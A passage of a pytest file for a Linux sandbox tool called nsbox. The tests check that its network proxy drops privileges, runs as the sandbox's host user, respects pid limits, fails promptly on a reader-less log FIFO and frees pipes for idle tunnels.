    with log, _nsbox_run(args + ["--allow-net", f"{UP}:{upstream}", "--", PY, "-c", script],
                         stdin=subprocess.PIPE) as p:
        out = json.loads(p.stdout.readline())
        assert out["got"] == "HTTP/1.0 200 OK", out
        # The launcher's children: pid 1 (pid 1 in its own namespace too)
        # and the proxy (in none but the host's).
        proxies = [c for c in _children(p.pid) if len(_status(c)["NSpid"].split()) == 1]
        assert len(proxies) == 1, [(c, _status(c)["NSpid"]) for c in _children(p.pid)]
        st = _status(proxies[0])
        assert st["NoNewPrivs"].strip() == "1", st
        for k in ("CapInh", "CapPrm", "CapEff", "CapAmb"):
            assert int(st[k], 16) == 0, (k, st[k])
        if os.geteuid() == 0:
            assert int(st["CapBnd"], 16) == 0, st["CapBnd"]
        p.stdin.write(b"\n")
        p.stdin.flush()
        assert p.wait(timeout=30) == 0, p.stderr.read().decode()


@pytest.mark.skipif(os.geteuid() != 0, reason="HostUid= other than one's own needs root")
def test_roots_proxy_is_the_sandboxs_host_user(upstream, tmp_path):
    """A root launcher with HostUid= (nsboxd's per-session uids, or the
    client's own with a workspace): the proxy that works for the sandbox is
    that host user, not root, so the pipes and sockets it makes count
    against that user's budgets (a root nsboxd's sessions all drew on
    root's) and what it connects carries that uid to the firewall."""
    pol = tmp_path / "hostuid.policy"
    pol.write_text("[Sandbox]\nHostUid=65531\nHostGid=65531\n")
    script = PRELUDE + f'''
import sys
R["got"] = raw("{_get(upstream)}")[0]
print(json.dumps(R), flush=True)
sys.stdin.readline()
'''
    with _nsbox_run(["--policy", str(pol), "--allow-net", f"{UP}:{upstream}", "--", PY, "-c", script],
                    stdin=subprocess.PIPE) as p:
        out = json.loads(p.stdout.readline())
        assert out["got"] == "HTTP/1.0 200 OK", out
        proxies = [c for c in _children(p.pid) if len(_status(c)["NSpid"].split()) == 1]
        assert len(proxies) == 1
        st = _status(proxies[0])
        assert st["Uid"].split() == ["65531"] * 4 and st["Gid"].split() == ["65531"] * 4, (st["Uid"], st["Gid"])
        assert st["Groups"].strip() == "", st["Groups"]
        for k in ("CapPrm", "CapEff", "CapBnd"):
            assert int(st[k], 16) == 0, (k, st[k])
        p.stdin.write(b"\n")
        p.stdin.flush()
        assert p.wait(timeout=30) == 0, p.stderr.read().decode()


def test_proxy_threads_follow_the_pids_limit():
    """The setup workers are threads of the host (the launcher's cgroup,
    nsboxd's), not charged to the sandbox: 64 idle connections from a
    sandbox limited to 8 pids kept 64 of them (67 threads in the proxy).
    Now no more workers than the sandbox's Pids= (at least 2), plus the
    proxy's main, relay and DNS threads; the connections wait their turn
    in the listener's queue, and a request after them is still served."""
    script = PRELUDE + '''
import sys
held = [socket.create_connection(("127.0.0.1", 3128)) for _ in range(64)]
print("held", flush=True)
sys.stdin.readline()
for c in held:
    c.close()
R["after"] = raw("CONNECT unlisted.test:443 HTTP/1.1\\r\\n\\r\\n")
print(json.dumps(R), flush=True)
'''
    with _nsbox_run(["--pids", "8", "--allow-net", "allowed.test", "--", PY, "-c", script],
                    stdin=subprocess.PIPE) as p:
        assert p.stdout.readline().strip() == b"held"
        # The proxy is forked at the first connection (egress_lazy); the
        # 64 wait in the listener's queue meanwhile, "held" comes first.
        proxies = []
        for _ in range(100):
            proxies = [c for c in _children(p.pid) if len(_status(c)["NSpid"].split()) == 1]
            if proxies:
                break
            time.sleep(0.1)
        assert len(proxies) == 1
        tasks = 0
        for _ in range(20):  # the workers start as connections are taken
            time.sleep(0.1)
            tasks = max(tasks, len(os.listdir(f"/proc/{proxies[0]}/task")))
        p.stdin.write(b"\n")
        p.stdin.flush()
        out = json.loads(p.stdout.readline())
        assert p.wait(timeout=60) == 0, p.stderr.read().decode()
    assert 3 < tasks <= 8 + 3, tasks
    assert out["after"][1] == "name not on the allowlist", out


def test_net_log_fifo_without_a_reader_fails_at_once(tmp_path):
    # The log was opened blocking while nsbox run caught SIGINT and SIGTERM
    # (SA_RESTART, to forward them): a FIFO with no reader held it in open()
    # for good, past timeout(1) and Ctrl-C.  Now ENXIO, named, at the setup;
    # a FIFO with a reader gets the lines.
    fifo = tmp_path / "log"
    os.mkfifo(fifo)
    rc, out, err = run(["run", "--net-log", str(fifo), "--allow-net", "example.com", "--", "true"], timeout=30)
    assert rc == 125 and "open the network log" in err and "FIFO with no reader" in err, (rc, err)
    rfd = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)  # a reader, before the writer comes
    try:
        rc, out, err = run(["run", "--net-log", str(fifo), "--allow-net", "example.com", "--", PY, "-c",
                            "import socket\ntry: socket.getaddrinfo('nope.invalid', 80)\nexcept OSError: pass"],
                           timeout=60)
        got = os.read(rfd, 65536).decode()
    finally:
        os.close(rfd)
    assert rc == 0, err
    assert '"host":"nope.invalid"' in got and '"kind":"dns"' in got, got


HOLD_TUNNELS = r'''
import socket, struct, sys, time
n, port = int(sys.argv[1]), int(sys.argv[2])
held = []
for _ in range(n):
    s = socket.create_connection(("127.0.0.1", 1080), timeout=10)
    s.sendall(b"\x05\x01\x00")
    assert s.recv(2) == b"\x05\x00"
    s.sendall(b"\x05\x01\x00\x01" + socket.inet_aton("127.0.0.1") + struct.pack(">H", port))
    rep = s.recv(10)
    assert rep[1] == 0, rep
    held.append(s)
print("open", len(held), flush=True)
sys.stdin.readline()
for s in held:
    s.sendall(b"x" * 1000)
back = 0
for s in held:
    got = b""
    while len(got) < 1000:
        got += s.recv(1000 - len(got))
    back += len(got)
print("sent", back, flush=True)
sys.stdin.readline()
'''


def test_idle_tunnels_hold_no_pipes():
    """The proxy made two pipes per tunnel at its start and grew each to
    256 KiB: 128 pages, charged to the host user's pipe-user-pages-soft
    (16384, shared by every process of that user) whether or not a byte
    ever passed, so 140 idle tunnels took the user's every new pipe down
    to 8 KiB while they lasted (red team 10).  Now a tunnel has a pipe
    only while it moves bytes, and a second after: 60 idle tunnels, and
    the proxy holds none (from the host: the proxy's descriptors)."""
    got = []

    def hold(c):
        # 1000 bytes in, the same back (a pipe each way), then held.
        c.settimeout(30)
        data = b""
        with contextlib.suppress(OSError):
            while len(data) < 1000:
                b = c.recv(1000 - len(data))
                if not b:
                    break
                data += b
            got.append(len(data))
            c.sendall(data)
            while c.recv(4096):
                pass
    srv, conns = _tcp_server("127.0.0.1", hold, backlog=128, threaded=True)
    port = srv.getsockname()[1]

    def proxy_fds():
        mine = os.readlink("/proc/self/ns/net")
        pipes, sockets = 0, 0
        for pid in os.listdir("/proc"):
            try:
                if not pid.isdigit() or int(pid) == p.pid or os.readlink(f"/proc/{pid}/ns/net") != mine:
                    continue
                stat = open(f"/proc/{pid}/stat").read()
                if int(stat.rsplit(")", 1)[1].split()[1]) != p.pid:
                    continue
                fds = [os.readlink(f"/proc/{pid}/fd/{f}") for f in os.listdir(f"/proc/{pid}/fd")]
            except OSError:
                continue
            pipes += sum(f.startswith("pipe:") for f in fds)
            sockets += sum(f.startswith("socket:") for f in fds)
        return pipes, sockets
    p = subprocess.Popen([NSBOX, "run", "--quiet", "--allow-net", f"127.0.0.1:{port}", "--", PY, "-c", HOLD_TUNNELS,
                          "60", str(port)], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                         text=True)
    try:
        assert p.stdout.readline().split() == ["open", "60"], p.stderr.read()
        # The proxy: its 60 upstream sockets and the sandbox's 60, and no
        # tunnel's pipe (those it has for itself: stdio, the audit lines;
        # 123 before).
        pipes, sockets = proxy_fds()
        assert sockets >= 120 and pipes < 10, (sockets, pipes)
        # Bytes through each: a pipe each way that moved them, closed
        # once the tunnel has been idle a second.
        p.stdin.write("\n")
        p.stdin.flush()
        assert p.stdout.readline() == "sent 60000\n" and sum(got) == 60000, got
        end = time.monotonic() + 10
        while proxy_fds()[0] >= 10 and time.monotonic() < end:
            time.sleep(0.2)
        assert proxy_fds()[0] < 10, proxy_fds()
        p.stdin.write("\n")
        p.stdin.close()
        assert p.wait(timeout=30) == 0, p.stderr.read()
    finally:
        if p.poll() is None:
            p.kill()
            p.wait()
        p.stdout.close()
        p.stderr.close()
        srv.close()
        conns.settle()
